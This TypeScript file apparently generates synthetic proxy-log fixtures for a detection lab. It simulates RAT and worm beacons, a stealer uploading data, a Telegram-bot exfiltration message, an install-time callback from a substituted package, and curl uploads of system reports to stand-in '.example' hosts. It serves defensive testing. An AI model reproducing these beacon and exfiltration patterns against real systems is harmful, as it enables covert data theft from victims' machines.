/** Programs that tell somebody outside what a client is, or look up where it stands. */
import * as agents from "../agents.ts";
import { every } from "../times.ts";
import { ask, base64, collector, often, query, type Request, type Subject } from "./web.ts";

const winHttp = "Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)";
const internet =
  "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; WOW64; Trident/7.0; .NET4.0C; .NET4.0E)";
const node = "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)";
const text = "text/plain";

const wsh =
  "WSHRAT|5A1C99E0|TAL-MTL-0447|jlavoie|Microsoft Windows 11 Pro|plus|Windows Defender|false - 25/11/2026|JavaScript-v3.4|CA:Canada";
const worm = "MTL_8C31\\TAL-MTL-0452\\mcote\\Microsoft Windows 11 Pro\\ESET Security\\\\YES\\TRUE\\";

function chain(
  fromMs: number,
  client: string,
  agent: string,
  urls: readonly string[],
  gapMs = 1800,
): Request[] {
  return urls.map((url, turn) =>
    ask(fromMs + turn * gapMs, client, agent, url, { received: 200 + url.length, type: "application/json" }),
  );
}

export const programCollectors: readonly Subject[] = [
  collector(
    "lab",
    "update-relay-77.example",
    "proxy-implant",
    "a script's worm asks every few minutes for orders; its very name tells computer, user, system and protection",
    often(every(11, "0 13:40:00").slice(0, 60), (timeMs) => [
      ask(timeMs, "172.20.4.47", wsh, "http://update-relay-77.example:7121/is-ready", {
        method: "POST",
        received: 9,
        type: text,
      }),
    ]),
  ),
  collector(
    "lab",
    "vre-files.example",
    "proxy-implant",
    "another script's worm of that kind, with the protection in its name",
    often(every(37, "0 15:05:00").slice(0, 30), (timeMs) => [
      ask(timeMs, "172.20.4.52", worm, "http://vre-files.example:9340/Vre", {
        method: "POST",
        received: 4,
        type: text,
      }),
    ]),
  ),
  collector(
    "lab",
    "cfg-node4.example",
    "proxy-implant",
    "a stealer announces the machine, with build, language, protection and rights, then sends the spoils",
    often(["1 11:02:10"], (timeMs) => [
      ask(
        timeMs,
        "172.20.4.39",
        winHttp,
        `http://cfg-node4.example/api/hello?${query({ hwid: "9F1C88B02A71", build: "mars7", os: "Windows 11 Pro 26100", arch: "x64", av: "Windows Defender", lang: "fr-CA", ram: 16261, cpu: "i5-1345U", admin: 0, pc: "TAL-MTL-0439", usr: "nroy" })}`,
        { received: 1890, type: text },
      ),
      ...[1, 2, 3, 4].map((part) =>
        ask(
          timeMs + 9000 * part,
          "172.20.4.39",
          winHttp,
          `http://cfg-node4.example/api/up?id=9F1C88B02A71&p=${part}`,
          { method: "POST", sent: 1_480_220, received: 2, type: text },
        ),
      ),
    ]),
  ),
  collector(
    "lab",
    "winsvc-metrics.example",
    "proxy-script",
    "PowerShell posts the versions of Windows and Office, the name of the domain and whether Defender runs",
    often(["0 10:33:01", "0 16:33:04", "1 10:33:02"], (timeMs) => [
      ask(
        timeMs,
        "172.20.4.20",
        agents.powershell,
        `https://winsvc-metrics.example/r?${query({ h: "TAL-MTL-0420", d: "TALVERA", w: "10.0.26100.4652", o: "16.0.20416", rtp: "True", tp: "False", ps: "5.1" })}`,
        { method: "POST", received: 15, type: text },
      ),
    ]),
  ),
  collector(
    "lab",
    "172.20.4.66",
    "proxy-script",
    "a program sends computer, system, protection and address by a messenger's interface for robots, at each start",
    often(["0 08:02:31", "0 13:10:02", "1 08:04:47"], (timeMs) => [
      ask(timeMs, "172.20.4.66", agents.requests, "https://api.ipify.org/?format=json", {
        received: 24,
        type: "application/json",
      }),
      ask(
        timeMs + 900,
        "172.20.4.66",
        agents.requests,
        `https://api.telegram.org/bot7719402215:AAEfq0example/sendMessage?chat_id=-1002214&text=${encodeURIComponent("New PC\nName: TAL-MTL-0466\nUser: hgagnon\nOS: Windows 11 Pro 26100\nAV: Windows Defender\nGPU: Intel Iris Xe\nRAM: 16 GB\nIP: 203.0.113.70")}`,
        { received: 310, type: "application/json" },
      ),
    ]),
  ),
  collector(
    "lab",
    "c8k2q0.oast-collab.example",
    "proxy-package",
    "a package put in the way of an own one tells, on installation, host, user, folder and name servers",
    often(["0 09:58:33", "1 14:12:09"], (timeMs) => [
      ask(
        timeMs,
        "172.20.9.5",
        node,
        `https://c8k2q0.oast-collab.example/?${query({ p: "talvera-lims-utils", h: "runner-mtl-2", u: "gitlab-runner", d: "/builds/lims/web", ns: "172.20.0.53", v: "v24.11.0", os: "linux 6.12" })}`,
        { received: 40 },
      ),
    ]),
  ),
  collector(
    "lab",
    "stat.pc-tune-helper.example",
    "proxy-tool",
    "an unwanted helper that came with a download tells protection, browsers and rights twice a day",
    often(["0 08:11:00", "0 14:11:00", "1 08:11:00", "1 14:11:00"], (timeMs) => [
      ask(
        timeMs,
        "172.20.4.31",
        "PCTuneHelper/3.2",
        `http://stat.pc-tune-helper.example/i?${query({ os: "10.0.26100", avs: "Windows Defender;ESET", brw: "chrome158,edge158", adm: 1, vm: 0, lang: "fr", inst: "bundle-41" })}`,
        { received: 32, type: text },
      ),
    ]),
  ),
  collector(
    "cloud",
    "10.60.8.35",
    "proxy-self",
    "a program by Go asks five services where it stands and whether that is a data centre, each hour",
    often(every(60, "0 09:00:40").slice(0, 26), (timeMs) =>
      chain(timeMs, "10.60.8.35", agents.go, [
        "https://ipinfo.io/json",
        "http://ip-api.com/json/?fields=country,isp,as,hosting,proxy",
        "https://ipwho.is/",
        "https://api.myip.com/",
        "https://ifconfig.me/all.json",
      ]),
    ),
  ),
  collector(
    "lab",
    "172.20.4.71",
    "proxy-self",
    "a script's host looks up the own address at three services in one minute and again after each start, then is silent",
    often(["0 12:40:03", "0 17:20:55", "1 07:58:19", "1 12:44:01"], (timeMs) =>
      chain(
        timeMs,
        "172.20.4.71",
        internet,
        ["http://checkip.dyndns.org/", "http://ip-api.com/line/?fields=hosting", "http://icanhazip.com/"],
        4100,
      ),
    ),
  ),
  collector(
    "cloud",
    "contact-box.example",
    "proxy-implant",
    "a thief on a Mac sends one archive by curl, with serial number and user in the address",
    often(["1 19:20:47"], (timeMs) => [
      ask(timeMs, "10.60.8.19", "curl/8.7.1", "https://contact-box.example/t/mac.sh", {
        received: 4021,
        type: text,
      }),
      ask(
        timeMs + 41_000,
        "10.60.8.19",
        "curl/8.7.1",
        `https://contact-box.example/contact?${query({ user: "kbouchard", hw: "MacBookPro18,3", sn: "C02XL0EXAMPLE", os: "27.1", build: "bowl" })}`,
        { method: "POST", sent: 9_811_400, received: 2, type: text },
      ),
    ]),
  ),
  collector(
    "cloud",
    "upload-drop.example",
    "proxy-script",
    "curl on Windows uploads reports of the system, of patches and of programs under the name of the PC",
    often(["0 22:10:12"], (timeMs) =>
      ["systeminfo", "hotfix", "programs", "ipconfig", "wlan"].map((name, turn) =>
        ask(
          timeMs + turn * 2200,
          "10.60.8.40",
          "curl/8.13.0",
          `https://upload-drop.example/TAL-NB-1140_${name}.txt`,
          { method: "PUT", sent: 4100 + turn * 1711, received: 66, type: text },
        ),
      ),
    ),
  ),
  collector(
    "cloud",
    "beacon.sheet-helper.example",
    "proxy-macro",
    "a sheet's macro calls home with versions of Excel and Windows, user and bitness",
    often(["0 10:05:05", "0 10:41:39", "1 13:31:40"], (timeMs, turn) => [
      ask(
        timeMs,
        `10.60.8.${44 + turn}`,
        "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; Win64; x64; Trident/7.0; ms-office; MSOffice 16)",
        `http://beacon.sheet-helper.example/x.gif?${query({ app: "Excel 16.0", bit: "64", os: "Windows (64-bit) NT 10.00", u: ["pvidal", "taraya", "hsoto"][turn] ?? "", sec: "2" })}`,
        { received: 43, type: "image/gif" },
      ),
    ]),
  ),
  collector(
    "cloud",
    "ext-sync-api.example",
    "proxy-extension",
    "an extension sends a list of the other extensions, the system and the tabs, in base64, every two hours",
    often(every(120, "0 08:30:00").slice(0, 8), (timeMs) => [
      ask(
        timeMs,
        "10.60.8.27",
        agents.chrome,
        `https://ext-sync-api.example/s?q=${encodeURIComponent(base64({ uid: "91ab", os: "win", arch: "x86-64", chrome: "158.0.7780.64", ext: ["uBlock Origin Lite", "Bitwarden", "Zoom", "Grammarly"], lang: "de-AT", mem: 16, disp: "1920x1080" }))}`,
        { received: 18, type: "application/json" },
      ),
    ]),
  ),
  collector(
    "lab",
    "wpad-autoconf.example",
    "proxy-self",
    "a program that is no browser fetches proxy settings from a foreign name, then looks up the own address",
    often(["0 07:30:00", "1 07:31:10"], (timeMs) => [
      ask(timeMs, "172.20.4.74", winHttp, "http://wpad-autoconf.example/wpad.dat", {
        received: 210,
        type: "application/x-ns-proxy-autoconfig",
      }),
      ask(timeMs + 3000, "172.20.4.74", winHttp, `http://wpad-autoconf.example/myip?c=TAL-MTL-0474&v=26100`, {
        received: 18,
        type: text,
      }),
    ]),
  ),
];
